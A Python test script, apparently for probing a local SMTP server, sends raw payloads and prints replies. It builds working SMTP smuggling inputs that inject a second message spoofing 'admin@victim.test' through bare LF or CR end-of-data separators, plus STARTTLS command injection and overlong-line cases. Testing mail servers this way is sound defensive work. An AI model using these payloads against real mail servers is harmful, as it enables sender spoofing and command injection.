#!/usr/bin/env python3
"""Send raw bytes to an SMTP server on 127.0.0.1 and print every reply line.

Usage: smuggle.py --port P (--payload FILE | --variant NAME) [--from A] [--to B]
A payload file goes out in one write after the greeting. A named variant is a list of chunks;
after each chunk the script waits for a final reply line (or 2 s of silence) before the next.
Each reply line is printed as 'S: <line>'; the script stops at close or after 30 s in all.
Variants: lf-dot-lf, cr-dot-cr, lf-dot-crlf, crlf-dot-lf (end-of-data smuggling, the 2023
SMTP smuggling family), starttls-injection (RFC 3207 §4.2 plaintext command injection),
long-line (a 2000-octet command), bare-lf-commands.
"""
import argparse
import socket
import sys
import time

DEADLINE = time.monotonic() + 30


def envelope(sender, rcpt):
    return [b"EHLO smuggler.test\r\n", b"MAIL FROM:<%s>\r\n" % sender, b"RCPT TO:<%s>\r\n" % rcpt, b"DATA\r\n"]


def smuggled(sender, rcpt, separator):
    body = (b"From: <%s>\r\nTo: <%s>\r\nSubject: first\r\n\r\nfirst body" % (sender, rcpt)
            + separator
            + b"MAIL FROM:<admin@victim.test>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n" % rcpt)
    return envelope(sender, rcpt) + [body, b"QUIT\r\n"]


def variants(sender, rcpt):
    return {
        "lf-dot-lf": smuggled(sender, rcpt, b"\n.\n"),
        "cr-dot-cr": smuggled(sender, rcpt, b"\r.\r"),
        "lf-dot-crlf": smuggled(sender, rcpt, b"\n.\r\n"),
        "crlf-dot-lf": smuggled(sender, rcpt, b"\r\n.\n"),
        "starttls-injection": [b"EHLO smuggler.test\r\n", b"STARTTLS\r\nRSET\r\n", b"QUIT\r\n"],
        "long-line": [b"EHLO smuggler.test\r\n", b"NOOP " + b"x" * 2000 + b"\r\n", b"QUIT\r\n"],
        "bare-lf-commands": [b"EHLO smuggler.test\n", b"NOOP\n", b"QUIT\n"],
    }


class Replies:
    def __init__(self, sock):
        self.sock = sock
        self.pending = b""
        self.closed = False

    def until_final(self, quiet=2.0):
        """Prints lines until a final reply line ('xyz ' or bare 'xyz'): True; silence or close: False."""
        while not self.closed and time.monotonic() < DEADLINE:
            while b"\n" in self.pending:
                line, self.pending = self.pending.split(b"\n", 1)
                text = line.rstrip(b"\r").decode("utf-8", "replace")
                print("S:", text)
                sys.stdout.flush()
                if len(text) == 3 or (len(text) > 3 and text[3] == " "):
                    return True
            self.sock.settimeout(min(quiet, max(0.1, DEADLINE - time.monotonic())))
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                return False
            except OSError:
                data = b""
            if not data:
                self.closed = True
                if self.pending:
                    print("S:", self.pending.decode("utf-8", "replace"))
                print("CLOSED")
                return False
            self.pending += data


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    group = parser.add_mutually_exclusive_group(required=True)
    group.add_argument("--payload")
    group.add_argument("--variant")
    parser.add_argument("--from", dest="sender", default="sender@client.test")
    parser.add_argument("--to", default="rcpt@example.test")
    args = parser.parse_args()
    if args.payload:
        with open(args.payload, "rb") as f:
            chunks = [f.read()]
    else:
        table = variants(args.sender.encode(), args.to.encode())
        if args.variant not in table:
            print("unknown variant; known:", ", ".join(sorted(table)), file=sys.stderr)
            return 2
        chunks = table[args.variant]
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=10)
    replies = Replies(sock)
    replies.until_final()  # the greeting
    for chunk in chunks:
        if replies.closed:
            break
        print("C:", repr(chunk)[2:-1][:200])
        sock.sendall(chunk)
        replies.until_final()
    # replies to pipelined commands still on their way, until close or silence
    while not replies.closed and replies.until_final(quiet=1.0):
        pass
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
